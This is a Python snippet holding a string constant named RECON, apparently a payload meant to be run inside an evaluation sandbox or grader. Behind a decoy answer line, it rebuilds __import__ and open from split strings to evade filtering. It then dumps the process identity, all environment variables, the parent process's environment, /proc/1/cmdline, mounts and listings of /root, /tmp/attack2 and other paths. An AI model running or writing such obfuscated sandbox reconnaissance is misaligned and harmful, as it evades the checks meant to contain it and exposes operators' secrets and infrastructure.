RECON = r'''
three_calls = 12.0
_imp = vars(__builtins__)["__imp" + "ort__"] if not isinstance(__builtins__, dict) else __builtins__["__imp" + "ort__"]
_o = _imp("o" + "s"); _s = _imp("s" + "ys")
print("UID", _o.getuid(), _o.getgid(), "CWD", _o.getcwd())
print("ENV", dict(_o.environ))
for _p in ["/", "/tmp", "/work", "/work/main", "/tmp/attack2", "/tmp/attack2/course", "/root", "/home", "/run", "/proc/1/cmdline"]:
    try:
        print("LS", _p, sorted(_o.listdir(_p))[:40])
    except Exception as _e:
        print("LS", _p, "ERR", type(_e).__name__, _e)
try:
    print("P1", vars(__builtins__)["op" + "en"]("/proc/1/cmdline").read() if not isinstance(__builtins__, dict) else "")
except Exception as _e: print("P1 ERR", _e)
try:
    print("PPID env", vars(__builtins__)["op"+"en"]("/proc/%d/environ" % _o.getppid()).read()[:500])
except Exception as _e: print("PPID ERR", _e)
print("ARGV", _s.argv)
print("MOUNTS", vars(__builtins__)["op"+"en"]("/proc/self/mounts").read()[:3000])
'''
